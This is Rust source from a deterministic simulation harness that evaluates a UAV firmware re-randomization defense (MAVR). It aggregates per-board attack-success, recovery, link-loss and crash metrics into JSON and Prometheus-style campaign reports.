//! Campaign outcomes and the `CampaignReport`.
//!
//! Everything here is **deterministic**: a report assembled from the same
//! outcome list renders byte-identical JSON, and the engine guarantees the
//! outcome list itself depends only on the campaign configuration — never
//! on worker-thread count or wall-clock time. That is why no timing or
//! host information appears anywhere in this module.

use crate::scenario::Scenario;
use mavlink_lite::channel::ChannelStats;
use mavlink_lite::RouterTotals;
use telemetry::metrics::{MetricsRegistry, QuantileSketch};

/// Physical-impact numbers from one board's flight in the world arena
/// (`mavr-world`). Present only when the campaign ran with physics on;
/// physics-off outcomes carry `None` and render byte-identical JSON to
/// the engine before the physics axis existed.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct WorldMetrics {
    /// Peak `|altitude − setpoint|` in meters during the observation
    /// window (reset at attack injection, so it isolates the excursion
    /// the attack — or its failed attempt — caused).
    pub peak_alt_err_m: f64,
    /// Hard ground impacts (descent faster than
    /// [`mavr_world::CRASH_IMPACT_MPS`] at touchdown).
    pub ground_impacts: u32,
    /// Meters of altitude lost across master recoveries (motors dead
    /// while the reflash runs).
    pub alt_lost_m: f64,
    /// Recoveries replayed into the world as dead-motor time.
    pub recoveries_caught: u32,
}

/// Why a supervised job never produced a real flight.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobFailureKind {
    /// The firmware (or the harness around it) panicked on every attempt.
    Panic,
    /// The cycle-budget watchdog expired: the job ran past the worst-case
    /// cycle count its configuration allows, i.e. it was not terminating.
    Timeout,
}

impl JobFailureKind {
    /// Stable lower-case name used on the JSONL wire.
    pub fn name(self) -> &'static str {
        match self {
            JobFailureKind::Panic => "panic",
            JobFailureKind::Timeout => "timeout",
        }
    }
}

/// Typed record of a job that exhausted its supervised retries and was
/// quarantined. Carried *inside* the outcome so the checkpoint wire, the
/// JSONL stream and the merged report all agree on exactly which jobs
/// failed — a quarantined job is counted, never silently dropped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct JobFailure {
    /// Terminal failure mode of the final attempt.
    pub kind: JobFailureKind,
    /// Attempts burned before quarantine (== the supervisor's retry cap).
    pub attempts: u32,
}

/// Everything observed about one board's run in the campaign.
#[derive(Debug, Clone, PartialEq)]
pub struct BoardOutcome {
    /// Scenario this board was subjected to.
    pub scenario: Scenario,
    /// Per-byte impairment probability of its link (both directions).
    pub loss: f64,
    /// Fault-injection rate of its recovery pipeline (0 = no chaos).
    pub fault: f64,
    /// Board ordinal within its `(scenario, loss, fault)` cell.
    pub board_index: usize,
    /// Randomization seed the board was provisioned with.
    pub board_seed: u64,
    /// Attack packets sent (0 for benign).
    pub attack_packets: usize,
    /// Whether the attacker's 3-byte write landed in the victim's SRAM.
    pub attack_succeeded: bool,
    /// Recoveries (detect + re-randomize + reflash) the master performed.
    pub recoveries: usize,
    /// Reflash retries (container re-reads, stream retries, page repairs)
    /// the master's recovery pipeline burned across the run.
    pub reflash_retries: u64,
    /// Boots that fell back to the last-known-good image without fresh
    /// randomization.
    pub degraded_boots: u64,
    /// The board exhausted every retry and the degraded fallback — it
    /// ended the run requiring manual service.
    pub bricked: bool,
    /// Cycles from attack injection to the master's first detection.
    pub time_to_recovery: Option<u64>,
    /// Application-processor cycle count when the run ended.
    pub final_cycle: u64,
    /// Heartbeats the ground station decoded (lifetime total).
    pub heartbeats: u64,
    /// Checksum-valid packets the ground station parsed.
    pub packets: u64,
    /// Sequence-number discontinuities the ground station observed.
    pub seq_gaps: u64,
    /// Packets the sequence deltas say the downlink lost.
    pub packets_lost: u64,
    /// Bytes that failed the ground station's checksum.
    pub bad_checksums: u64,
    /// Frames the *UAV's* parser rejected on checksum (uplink corruption;
    /// an 8-bit firmware counter, wraps at 256).
    pub uav_bad_crc: u8,
    /// Fused blocks the app processor's engine dispatched. Engine
    /// observability, not a flight result: it feeds the metrics registry
    /// but never the report JSON, which must be identical with fusion
    /// on or off.
    pub sim_block_hits: u64,
    /// Fused blocks invalidated by reflashes (engine observability).
    pub sim_block_invalidations: u64,
    /// Live fused blocks when the run ended (engine observability).
    pub sim_block_count: u64,
    /// Uplink (ground → UAV) channel accounting.
    pub up_stats: ChannelStats,
    /// Downlink (UAV → ground) channel accounting.
    pub down_stats: ChannelStats,
    /// Physical-impact numbers; `Some` only for physics campaigns.
    pub world: Option<WorldMetrics>,
    /// `Some` when the supervisor quarantined this job after exhausting
    /// retries; every other counter in the outcome is then zero. `None`
    /// outcomes render byte-identical JSON to the engine before job
    /// supervision existed.
    pub failure: Option<JobFailure>,
}

impl BoardOutcome {
    /// One JSONL record (a single line, no trailing newline).
    pub fn to_json_line(&self) -> String {
        let world = self.world.map_or_else(String::new, |w| {
            format!(
                ",\"peak_alt_err_m\":{:.3},\"ground_impacts\":{},\
                 \"alt_lost_m\":{:.3},\"recoveries_caught\":{}",
                w.peak_alt_err_m, w.ground_impacts, w.alt_lost_m, w.recoveries_caught
            )
        });
        let failure = self.failure.map_or_else(String::new, |f| {
            format!(
                ",\"failure\":\"{}\",\"attempts\":{}",
                f.kind.name(),
                f.attempts
            )
        });
        format!(
            "{{\"scenario\":\"{}\",\"loss\":{:.4},\"fault\":{},\"board\":{},\"seed\":{},\
             \"attack_packets\":{},\"attack_succeeded\":{},\"recoveries\":{},\
             \"reflash_retries\":{},\"degraded_boots\":{},\"bricked\":{},\
             \"time_to_recovery\":{},\"final_cycle\":{},\"heartbeats\":{},\
             \"packets\":{},\"seq_gaps\":{},\"packets_lost\":{},\
             \"bad_checksums\":{},\"uav_bad_crc\":{},\
             \"up_dropped\":{},\"up_corrupted\":{},\"up_duplicated\":{},\
             \"down_dropped\":{},\"down_corrupted\":{},\"down_duplicated\":{}{}{}}}",
            self.scenario.name(),
            self.loss,
            self.fault,
            self.board_index,
            self.board_seed,
            self.attack_packets,
            self.attack_succeeded,
            self.recoveries,
            self.reflash_retries,
            self.degraded_boots,
            self.bricked,
            self.time_to_recovery
                .map_or("null".to_string(), |t| t.to_string()),
            self.final_cycle,
            self.heartbeats,
            self.packets,
            self.seq_gaps,
            self.packets_lost,
            self.bad_checksums,
            self.uav_bad_crc,
            self.up_stats.dropped,
            self.up_stats.corrupted,
            self.up_stats.duplicated,
            self.down_stats.dropped,
            self.down_stats.corrupted,
            self.down_stats.duplicated,
            world,
            failure,
        )
    }
}

/// Aggregate over one `(scenario, loss, fault)` cell of the campaign
/// matrix — one point on a link-loss or fault-rate sensitivity curve.
#[derive(Debug, Clone, PartialEq)]
pub struct CellReport {
    /// The scenario of this cell.
    pub scenario: Scenario,
    /// The loss level of this cell.
    pub loss: f64,
    /// The fault-injection rate of this cell.
    pub fault: f64,
    /// Boards in the cell.
    pub boards: usize,
    /// Boards whose attack write landed (the paper's headline: 0 when
    /// randomized).
    pub attack_successes: usize,
    /// Boards the master detected and recovered at least once.
    pub boards_recovered: usize,
    /// Total recoveries across the cell.
    pub recoveries_total: u64,
    /// Detection-latency distribution (cycles from injection to
    /// detection), held as a mergeable quantile sketch: O(1) RAM in the
    /// number of boards, exact mean/min/max, quantiles within
    /// [`telemetry::metrics::RELATIVE_ERROR`] (~3.2%).
    pub latency_sketch: QuantileSketch,
    /// Ground-station heartbeats decoded across the cell.
    pub heartbeats: u64,
    /// Sequence gaps across the cell.
    pub seq_gaps: u64,
    /// Estimated packets lost across the cell.
    pub packets_lost: u64,
    /// Ground-station checksum failures across the cell.
    pub bad_checksums: u64,
    /// Channel bytes dropped, both directions summed.
    pub bytes_dropped: u64,
    /// Channel bytes corrupted, both directions summed.
    pub bytes_corrupted: u64,
    /// Reflash retries across the cell.
    pub reflash_retries: u64,
    /// Degraded (last-known-good, no fresh randomization) boots across
    /// the cell.
    pub degraded_boots: u64,
    /// Boards that booted degraded at least once.
    pub boards_degraded: usize,
    /// Boards that ended the run bricked (fail-stop after every retry).
    pub boards_bricked: usize,
    /// Jobs the supervisor quarantined after exhausting retries. Rendered
    /// (and counted in metrics) only when nonzero, so fault-free reports
    /// stay byte-identical to the engine before job supervision existed.
    pub jobs_quarantined: usize,
    /// Physical-impact aggregate; `Some` only for physics campaigns.
    pub world: Option<WorldCellMetrics>,
}

/// Control-aware impact aggregate over one campaign cell — what the
/// attacks *did to the aircraft*, not just to its memory.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct WorldCellMetrics {
    /// Worst per-board peak altitude error in the cell, meters.
    pub peak_alt_err_m: f64,
    /// Boards that hit the ground hard at least once.
    pub boards_crashed: usize,
    /// Total hard ground impacts across the cell.
    pub ground_impacts: u64,
    /// Total meters of altitude lost to master recoveries.
    pub alt_lost_m: f64,
    /// Total recoveries replayed as dead-motor time.
    pub recoveries_caught: u64,
}

impl WorldCellMetrics {
    /// Fraction of the cell's boards that crashed into the ground.
    pub fn crash_rate(&self, boards: usize) -> f64 {
        self.boards_crashed as f64 / boards.max(1) as f64
    }

    /// Mean meters of altitude lost per recovery — the physical price of
    /// one master reflash (a recovery-MTTR expressed in altitude).
    pub fn alt_lost_per_recovery_m(&self) -> Option<f64> {
        (self.recoveries_caught > 0).then(|| self.alt_lost_m / self.recoveries_caught as f64)
    }
}

impl CellReport {
    /// A zero-board cell at the given matrix coordinates — the identity
    /// of the [`CellReport::fold`] accumulation.
    fn empty(scenario: Scenario, loss: f64, fault: f64) -> Self {
        CellReport {
            scenario,
            loss,
            fault,
            boards: 0,
            attack_successes: 0,
            boards_recovered: 0,
            recoveries_total: 0,
            latency_sketch: QuantileSketch::new(),
            heartbeats: 0,
            seq_gaps: 0,
            packets_lost: 0,
            bad_checksums: 0,
            bytes_dropped: 0,
            bytes_corrupted: 0,
            reflash_retries: 0,
            degraded_boots: 0,
            boards_degraded: 0,
            boards_bricked: 0,
            jobs_quarantined: 0,
            world: None,
        }
    }

    /// Fold one outcome (which must belong to this cell's coordinates)
    /// into the aggregate. Every field is a sum, count, max or sketch
    /// insert, so folding outcome-by-outcome is exactly the batch
    /// aggregation — this incrementality is what lets sharded campaigns
    /// build their cells without ever holding the outcome list.
    fn fold(&mut self, o: &BoardOutcome) {
        debug_assert!(o.scenario == self.scenario && o.loss == self.loss && o.fault == self.fault);
        if let Some(l) = o.time_to_recovery {
            self.latency_sketch.record(l);
        }
        self.boards += 1;
        self.attack_successes += usize::from(o.attack_succeeded);
        self.boards_recovered += usize::from(o.recoveries > 0);
        self.recoveries_total += o.recoveries as u64;
        self.heartbeats += o.heartbeats;
        self.seq_gaps += o.seq_gaps;
        self.packets_lost += o.packets_lost;
        self.bad_checksums += o.bad_checksums;
        self.bytes_dropped += o.up_stats.dropped + o.down_stats.dropped;
        self.bytes_corrupted += o.up_stats.corrupted + o.down_stats.corrupted;
        self.reflash_retries += o.reflash_retries;
        self.degraded_boots += o.degraded_boots;
        self.boards_degraded += usize::from(o.degraded_boots > 0);
        self.boards_bricked += usize::from(o.bricked);
        self.jobs_quarantined += usize::from(o.failure.is_some());
        if let Some(w) = o.world {
            let cell = self.world.get_or_insert_with(WorldCellMetrics::default);
            cell.peak_alt_err_m = cell.peak_alt_err_m.max(w.peak_alt_err_m);
            cell.boards_crashed += usize::from(w.ground_impacts > 0);
            cell.ground_impacts += u64::from(w.ground_impacts);
            cell.alt_lost_m += w.alt_lost_m;
            cell.recoveries_caught += u64::from(w.recoveries_caught);
        }
    }

    fn from_outcomes(scenario: Scenario, loss: f64, fault: f64, outs: &[&BoardOutcome]) -> Self {
        let mut cell = CellReport::empty(scenario, loss, fault);
        for o in outs {
            cell.fold(o);
        }
        cell
    }

    /// Mean reflash retries per board — the cell's retry-rate point on
    /// the fault-sensitivity curve.
    pub fn reflash_retry_rate(&self) -> f64 {
        self.reflash_retries as f64 / self.boards.max(1) as f64
    }

    /// Fraction of boards that booted degraded at least once.
    pub fn degraded_rate(&self) -> f64 {
        self.boards_degraded as f64 / self.boards.max(1) as f64
    }

    /// Fraction of boards that ended the run bricked.
    pub fn brick_rate(&self) -> f64 {
        self.boards_bricked as f64 / self.boards.max(1) as f64
    }

    /// Fraction of the cell's boards whose attack write landed.
    pub fn attack_success_rate(&self) -> f64 {
        self.attack_successes as f64 / self.boards.max(1) as f64
    }

    /// Fraction of the cell's boards the master recovered at least once.
    pub fn recovery_rate(&self) -> f64 {
        self.boards_recovered as f64 / self.boards.max(1) as f64
    }

    /// Mean cycles from injection to detection, over detected boards.
    /// **Exact**: the sketch keeps the true sum and count alongside its
    /// buckets, so MTTR never suffers sketch error.
    pub fn mean_time_to_recovery(&self) -> Option<f64> {
        self.latency_sketch.mean()
    }

    /// `(min, median, max)` of the detection-latency distribution, from
    /// the sketch. Min and max are exact; the median is the sketch's
    /// rank-based estimate: the lower bound of the bucket holding the
    /// median rank, so it is `<=` the true median and within
    /// [`telemetry::metrics::RELATIVE_ERROR`] (one log2-sub-bucket width,
    /// 1/32 ≈ 3.2%) of it.
    pub fn latency_spread(&self) -> Option<(u64, u64, u64)> {
        let s = &self.latency_sketch;
        Some((s.min()?, s.quantile(0.5)?, s.max()?))
    }

    fn to_json(&self) -> String {
        let (mttr, lat) = match (self.mean_time_to_recovery(), self.latency_spread()) {
            (Some(m), Some((lo, p50, hi))) => (
                format!("{m:.1}"),
                format!("{{\"min\":{lo},\"p50\":{p50},\"max\":{hi}}}"),
            ),
            _ => ("null".to_string(), "null".to_string()),
        };
        let world = self.world.map_or_else(String::new, |w| {
            format!(
                ",\"peak_alt_err_m\":{:.3},\"boards_crashed\":{},\"crash_rate\":{:.4},\
                 \"ground_impacts\":{},\"alt_lost_m\":{:.3},\"alt_lost_per_recovery_m\":{}",
                w.peak_alt_err_m,
                w.boards_crashed,
                w.crash_rate(self.boards),
                w.ground_impacts,
                w.alt_lost_m,
                w.alt_lost_per_recovery_m()
                    .map_or("null".to_string(), |m| format!("{m:.3}")),
            )
        });
        let quarantined = if self.jobs_quarantined > 0 {
            format!(",\"jobs_quarantined\":{}", self.jobs_quarantined)
        } else {
            String::new()
        };
        format!(
            "{{\"scenario\":\"{}\",\"loss\":{:.4},\"fault\":{},\"boards\":{},\
             \"attack_successes\":{},\"attack_success_rate\":{:.4},\
             \"boards_recovered\":{},\"recovery_rate\":{:.4},\
             \"recoveries_total\":{},\"mean_time_to_recovery_cycles\":{},\
             \"detection_latency_cycles\":{},\"reflash_retries\":{},\
             \"reflash_retry_rate\":{:.4},\"degraded_boots\":{},\
             \"degraded_rate\":{:.4},\"boards_bricked\":{},\"brick_rate\":{:.4},\
             \"heartbeats\":{},\
             \"seq_gaps\":{},\"packets_lost\":{},\"bad_checksums\":{},\
             \"bytes_dropped\":{},\"bytes_corrupted\":{}{}{}}}",
            self.scenario.name(),
            self.loss,
            self.fault,
            self.boards,
            self.attack_successes,
            self.attack_success_rate(),
            self.boards_recovered,
            self.recovery_rate(),
            self.recoveries_total,
            mttr,
            lat,
            self.reflash_retries,
            self.reflash_retry_rate(),
            self.degraded_boots,
            self.degraded_rate(),
            self.boards_bricked,
            self.brick_rate(),
            self.heartbeats,
            self.seq_gaps,
            self.packets_lost,
            self.bad_checksums,
            self.bytes_dropped,
            self.bytes_corrupted,
            quarantined,
            world,
        )
    }
}

/// Fold one board's outcome into a metrics registry shard.
///
/// This is the **single** aggregation function behind campaign metrics:
/// worker threads call it on their private shards as jobs finish, and
/// [`CampaignReport::metrics`] calls it over the final outcome list. Both
/// paths produce byte-identical expositions because registry merge is
/// order-insensitive — which is also what makes resumed-from-checkpoint
/// metrics byte-identical to uninterrupted runs (outcomes are outcomes,
/// however they were scheduled). Labels are the cell coordinates; values
/// are counters, one latency sketch, and one packets histogram per cell,
/// so memory is O(cells), not O(boards).
pub fn fold_outcome_metrics(reg: &mut MetricsRegistry, o: &BoardOutcome) {
    let loss = format!("{:.4}", o.loss);
    let fault = format!("{}", o.fault);
    let labels: &[(&str, &str)] = &[
        ("scenario", o.scenario.name()),
        ("loss", &loss),
        ("fault", &fault),
    ];
    reg.add_counter("campaign_boards_total", labels, 1);
    reg.add_counter(
        "campaign_attack_successes_total",
        labels,
        u64::from(o.attack_succeeded),
    );
    reg.add_counter(
        "campaign_boards_recovered_total",
        labels,
        u64::from(o.recoveries > 0),
    );
    reg.add_counter("campaign_recoveries_total", labels, o.recoveries as u64);
    reg.add_counter("campaign_reflash_retries_total", labels, o.reflash_retries);
    reg.add_counter("campaign_degraded_boots_total", labels, o.degraded_boots);
    reg.add_counter(
        "campaign_boards_bricked_total",
        labels,
        u64::from(o.bricked),
    );
    reg.add_counter("campaign_heartbeats_total", labels, o.heartbeats);
    reg.add_counter("campaign_seq_gaps_total", labels, o.seq_gaps);
    reg.add_counter("campaign_sim_cycles_total", labels, o.final_cycle);
    reg.add_counter("campaign_sim_block_hits_total", labels, o.sim_block_hits);
    reg.add_counter(
        "campaign_sim_block_invalidations_total",
        labels,
        o.sim_block_invalidations,
    );
    reg.add_counter("campaign_sim_block_count", labels, o.sim_block_count);
    if let Some(latency) = o.time_to_recovery {
        reg.observe_sketch("campaign_detection_latency_cycles", labels, latency);
    }
    // Quarantine counters appear only when a job actually failed, so
    // fault-free expositions stay byte-identical to pre-supervision runs.
    if let Some(f) = o.failure {
        reg.add_counter("campaign_jobs_quarantined_total", labels, 1);
        reg.add_counter("campaign_job_attempts_total", labels, u64::from(f.attempts));
    }
    reg.observe_histogram("campaign_packets_per_board", labels, o.packets);
    // Physics counters appear only when the campaign flew in the world
    // arena, so physics-off expositions stay byte-identical.
    if let Some(w) = o.world {
        reg.add_counter(
            "campaign_ground_impacts_total",
            labels,
            u64::from(w.ground_impacts),
        );
        reg.add_counter(
            "campaign_world_recoveries_total",
            labels,
            u64::from(w.recoveries_caught),
        );
    }
}

/// Build the complete campaign registry from an outcome list: every
/// outcome folded via [`fold_outcome_metrics`] plus the job-count gauge.
/// Pure and deterministic — the oracle the sharded production path is
/// checked against.
pub fn registry_from_outcomes(outcomes: &[BoardOutcome]) -> MetricsRegistry {
    let mut reg = MetricsRegistry::new();
    for o in outcomes {
        fold_outcome_metrics(&mut reg, o);
    }
    reg.set_gauge("campaign_jobs_total", &[], outcomes.len() as f64);
    reg
}

/// Streaming campaign aggregation: the cell matrix, fleet totals and the
/// metrics registry built one outcome at a time, in O(cells) memory —
/// never O(boards). Folding the outcomes of K shards in job order yields
/// exactly the state [`CampaignReport::assemble`] + [`registry_from_outcomes`]
/// compute from the full outcome list (every constituent is a pure,
/// incrementalizable fold), which is the memory model of the campaign
/// service: a million-board cell costs what an 8-board cell costs.
#[derive(Debug)]
pub struct CampaignAggregate {
    scenarios: Vec<Scenario>,
    loss_levels: Vec<f64>,
    fault_levels: Vec<f64>,
    cells: Vec<CellReport>,
    fleet: RouterTotals,
    metrics: MetricsRegistry,
}

impl CampaignAggregate {
    /// An empty aggregate over the campaign matrix, cells pre-created in
    /// matrix (scenario-major) order.
    pub fn new(scenarios: &[Scenario], loss_levels: &[f64], fault_levels: &[f64]) -> Self {
        let mut cells =
            Vec::with_capacity(scenarios.len() * loss_levels.len() * fault_levels.len());
        for &s in scenarios {
            for &l in loss_levels {
                for &fr in fault_levels {
                    cells.push(CellReport::empty(s, l, fr));
                }
            }
        }
        CampaignAggregate {
            scenarios: scenarios.to_vec(),
            loss_levels: loss_levels.to_vec(),
            fault_levels: fault_levels.to_vec(),
            cells,
            fleet: RouterTotals::default(),
            metrics: MetricsRegistry::new(),
        }
    }

    /// Fold one outcome into its cell, the fleet totals and the metrics
    /// registry. Fails if the outcome's coordinates aren't on the matrix
    /// (a shard from a different campaign).
    pub fn fold(&mut self, o: &BoardOutcome) -> Result<(), String> {
        let s = self
            .scenarios
            .iter()
            .position(|&s| s == o.scenario)
            .ok_or_else(|| format!("outcome scenario {} not in campaign", o.scenario.name()))?;
        let l = self
            .loss_levels
            .iter()
            .position(|&l| l == o.loss)
            .ok_or_else(|| format!("outcome loss {} not in campaign", o.loss))?;
        let fr = self
            .fault_levels
            .iter()
            .position(|&f| f == o.fault)
            .ok_or_else(|| format!("outcome fault {} not in campaign", o.fault))?;
        let idx = (s * self.loss_levels.len() + l) * self.fault_levels.len() + fr;
        self.cells[idx].fold(o);
        // Mirror of `totals_from_outcomes`, one outcome at a time.
        self.fleet.links += 1;
        self.fleet.packets += o.packets;
        self.fleet.heartbeats += o.heartbeats;
        self.fleet.bad_checksums += o.bad_checksums;
        self.fleet.seq_gaps += o.seq_gaps;
        self.fleet.packets_lost += o.packets_lost;
        fold_outcome_metrics(&mut self.metrics, o);
        Ok(())
    }

    /// Outcomes folded so far.
    pub fn jobs(&self) -> usize {
        self.fleet.links
    }

    /// Finish the aggregation: the cell matrix, fleet totals, and the
    /// complete metrics registry (job-count gauge included) — exactly what
    /// [`registry_from_outcomes`] builds from the full outcome list.
    pub fn finish(mut self) -> (Vec<CellReport>, RouterTotals, MetricsRegistry) {
        let jobs = self.fleet.links;
        self.metrics
            .set_gauge("campaign_jobs_total", &[], jobs as f64);
        (self.cells, self.fleet, self.metrics)
    }
}

/// The configuration echo embedded in a report. Deliberately excludes
/// anything that may legally vary between identical campaigns (worker
/// thread count, host, wall clock).
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignSummary {
    /// Campaign master seed.
    pub seed: u64,
    /// Boards per `(scenario, loss)` cell.
    pub boards: usize,
    /// Scenario names, in matrix order.
    pub scenarios: Vec<&'static str>,
    /// Loss levels, in matrix order.
    pub loss_levels: Vec<f64>,
    /// Fault-injection rates, in matrix order (`[0.0]` when chaos is off).
    pub fault_levels: Vec<f64>,
    /// Pre-injection cycles per board.
    pub warmup_cycles: u64,
    /// Post-injection cycles per board.
    pub attack_cycles: u64,
    /// Application the fleet flies.
    pub app: String,
    /// Whether the fleet flew in the physical world arena.
    pub physics: bool,
}

/// Everything of a [`CampaignReport::to_json`] document that precedes the
/// board outcome lines: the campaign header, the cell matrix and the fleet
/// totals, ending just after `"boards": [` and its newline. A writer that
/// emits this, then each outcome as `"    " + to_json_line()` joined by
/// `",\n"`, then [`JSON_EPILOGUE`], reproduces `to_json` byte for byte —
/// without ever holding the outcome list.
pub fn json_prelude(
    config: &CampaignSummary,
    cells: &[CellReport],
    fleet: &RouterTotals,
) -> String {
    let scenarios = config
        .scenarios
        .iter()
        .map(|s| format!("\"{s}\""))
        .collect::<Vec<_>>()
        .join(",");
    let losses = config
        .loss_levels
        .iter()
        .map(|l| format!("{l:.4}"))
        .collect::<Vec<_>>()
        .join(",");
    // Plain `Display` rather than `{:.4}`: fault rates sweep down to
    // 1e-5 and below, which a fixed 4-decimal format would flatten
    // to 0.0000.
    let faults = config
        .fault_levels
        .iter()
        .map(|fr| format!("{fr}"))
        .collect::<Vec<_>>()
        .join(",");
    let cells = cells
        .iter()
        .map(|c| format!("    {}", c.to_json()))
        .collect::<Vec<_>>()
        .join(",\n");
    format!(
        "{{\n  \"campaign\": {{\"seed\":{},\"boards_per_cell\":{},\
         \"scenarios\":[{}],\"loss_levels\":[{}],\"fault_levels\":[{}],\
         \"warmup_cycles\":{},\
         \"attack_cycles\":{},\"app\":\"{}\"{}}},\n  \"cells\": [\n{}\n  ],\n  \
         \"fleet\": {{\"links\":{},\"packets\":{},\"heartbeats\":{},\
         \"bad_checksums\":{},\"seq_gaps\":{},\"packets_lost\":{}}},\n  \
         \"boards\": [\n",
        config.seed,
        config.boards,
        scenarios,
        losses,
        faults,
        config.warmup_cycles,
        config.attack_cycles,
        config.app,
        if config.physics {
            ",\"physics\":true"
        } else {
            ""
        },
        cells,
        fleet.links,
        fleet.packets,
        fleet.heartbeats,
        fleet.bad_checksums,
        fleet.seq_gaps,
        fleet.packets_lost,
    )
}

/// What closes a [`CampaignReport::to_json`] document after the last board
/// line (see [`json_prelude`]).
pub const JSON_EPILOGUE: &str = "\n  ]\n}\n";

/// The complete result of a fleet campaign.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignReport {
    /// What was run.
    pub config: CampaignSummary,
    /// One aggregate per `(scenario, loss, fault)` cell, in matrix order
    /// (scenario-major: each scenario's cells trace its loss- and
    /// fault-sensitivity curves).
    pub cells: Vec<CellReport>,
    /// Fleet-wide ground-station totals (all links, via the router).
    pub fleet: RouterTotals,
    /// Raw per-board outcomes, in job order.
    pub outcomes: Vec<BoardOutcome>,
}

impl CampaignReport {
    /// Group `outcomes` into cells following the campaign matrix order.
    pub fn assemble(
        config: CampaignSummary,
        fleet: RouterTotals,
        outcomes: Vec<BoardOutcome>,
        scenarios: &[Scenario],
        loss_levels: &[f64],
        fault_levels: &[f64],
    ) -> Self {
        let mut cells =
            Vec::with_capacity(scenarios.len() * loss_levels.len() * fault_levels.len());
        for &s in scenarios {
            for &l in loss_levels {
                for &fr in fault_levels {
                    let outs: Vec<&BoardOutcome> = outcomes
                        .iter()
                        .filter(|o| o.scenario == s && o.loss == l && o.fault == fr)
                        .collect();
                    cells.push(CellReport::from_outcomes(s, l, fr, &outs));
                }
            }
        }
        CampaignReport {
            config,
            cells,
            fleet,
            outcomes,
        }
    }

    /// The full report as pretty-stable JSON. Byte-identical for identical
    /// `(seed, boards, scenarios, loss)` campaigns, regardless of worker
    /// thread count.
    ///
    /// Structured as [`json_prelude`] + board lines + [`JSON_EPILOGUE`] so
    /// the campaign service's shard merge can stream the board section to
    /// disk one shard at a time and still produce these exact bytes.
    pub fn to_json(&self) -> String {
        let mut out = json_prelude(&self.config, &self.cells, &self.fleet);
        for (i, o) in self.outcomes.iter().enumerate() {
            if i > 0 {
                out.push_str(",\n");
            }
            out.push_str("    ");
            out.push_str(&o.to_json_line());
        }
        out.push_str(JSON_EPILOGUE);
        out
    }

    /// The campaign's metrics registry, rebuilt from the outcome list.
    /// Byte-identical (`to_prometheus`/`to_jsonl`) to the shard-merged
    /// registry the worker pool accumulates, at any thread count, and for
    /// resumed-from-checkpoint campaigns.
    pub fn metrics(&self) -> MetricsRegistry {
        registry_from_outcomes(&self.outcomes)
    }

    /// One JSON line per board outcome, in job order.
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for o in &self.outcomes {
            out.push_str(&o.to_json_line());
            out.push('\n');
        }
        out
    }

    /// Human-readable summary table.
    pub fn render(&self) -> String {
        use std::fmt::Write;
        let mut out = format!(
            "== Fleet campaign: {} boards/cell, seed {:#x}, app {} ==\n",
            self.config.boards, self.config.seed, self.config.app
        );
        writeln!(
            out,
            "{:<14}{:>7}{:>9}{:>8}{:>10}{:>11}{:>9}{:>15}{:>9}{:>10}{:>9}",
            "scenario",
            "loss",
            "fault",
            "boards",
            "success",
            "recovered",
            "rate",
            "mttr (cycles)",
            "retries",
            "degraded",
            "bricked"
        )
        .unwrap();
        for c in &self.cells {
            let world = c.world.map_or_else(String::new, |w| {
                format!(
                    "  alt_err {:.1}m  crashed {}/{}  alt_lost {:.1}m",
                    w.peak_alt_err_m, w.boards_crashed, c.boards, w.alt_lost_m
                )
            });
            writeln!(
                out,
                "{:<14}{:>7.4}{:>9}{:>8}{:>7}/{:<2}{:>8}/{:<2}{:>9.2}{:>15}{:>9}{:>10}{:>9}{}",
                c.scenario.name(),
                c.loss,
                format!("{}", c.fault),
                c.boards,
                c.attack_successes,
                c.boards,
                c.boards_recovered,
                c.boards,
                c.recovery_rate(),
                c.mean_time_to_recovery()
                    .map_or("-".to_string(), |m| format!("{m:.0}")),
                c.reflash_retries,
                c.degraded_boots,
                c.boards_bricked,
                world,
            )
            .unwrap();
        }
        writeln!(
            out,
            "fleet totals: {} links, {} packets, {} heartbeats, {} seq gaps, {} packets lost",
            self.fleet.links,
            self.fleet.packets,
            self.fleet.heartbeats,
            self.fleet.seq_gaps,
            self.fleet.packets_lost
        )
        .unwrap();
        out
    }
}
