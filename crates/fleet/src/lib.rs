//! Fleet campaign engine: many-UAV simulation over lossy MAVLink links.
//!
//! The paper (§VII-A) evaluates MAVR on a single APM board over a perfect
//! serial cable. Its recovery-rate and re-randomization claims only become
//! statistically meaningful across many boards, many randomization seeds,
//! and realistic link conditions. This crate is that evaluation harness:
//!
//! * **N independent [`MavrBoard`]s**, each provisioned with its own
//!   randomization seed (and thus its own firmware permutation);
//! * each connected to the ground station through a pair of deterministic
//!   [`LossyChannel`]s (uplink and downlink, independently seeded);
//! * driven concurrently on a pool of worker threads that pull jobs from a
//!   shared queue (boards run on whichever worker is free — results are
//!   stitched back in job order, so the outcome is thread-count
//!   invariant, like `rop::brute`);
//! * subjected to the attack matrix: `scenarios × loss levels × fault
//!   rates × boards`,
//!   where each attack payload is crafted once against the *unprotected*
//!   image (the paper's threat model — the attacker has the shipped
//!   binary, not the board's current permutation);
//! * aggregated into a [`CampaignReport`]: per-cell attack success rate,
//!   recovery rate, time-to-recovery distribution, and link statistics
//!   (sequence gaps, estimated packet loss, checksum garbage), with every
//!   per-board [`GroundStation`] session adopted into one [`Router`] for
//!   the fleet-wide operator view.
//!
//! **Determinism.** A campaign is a pure function of its
//! [`CampaignConfig`]: board seeds and both channel seeds derive from the
//! campaign seed via a splitmix64 mix of the job index, the simulator is
//! cycle-deterministic, and the report embeds no timing or host
//! information. The same config yields byte-identical
//! [`CampaignReport::to_json`] output across runs and across
//! `threads` values.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod checkpoint;
pub mod report;
pub mod scenario;
pub mod shard;

pub use checkpoint::{config_fingerprint, totals_from_outcomes, Checkpoint};
pub use mavlink_lite::RouterTotals;
pub use report::{
    fold_outcome_metrics, json_prelude, registry_from_outcomes, BoardOutcome, CampaignAggregate,
    CampaignReport, CampaignSummary, CellReport, JobFailure, JobFailureKind, WorldCellMetrics,
    WorldMetrics, JSON_EPILOGUE,
};
pub use scenario::{parse_scenarios, Scenario};
pub use shard::{
    merge_shard_checkpoints, run_shard_resume, ShardCheckpoint, ShardPlan, ShardRunStatus,
};

use mavlink_lite::channel::{ChannelStats, LossConfig, LossyChannel};
use mavlink_lite::{GroundStation, Router};
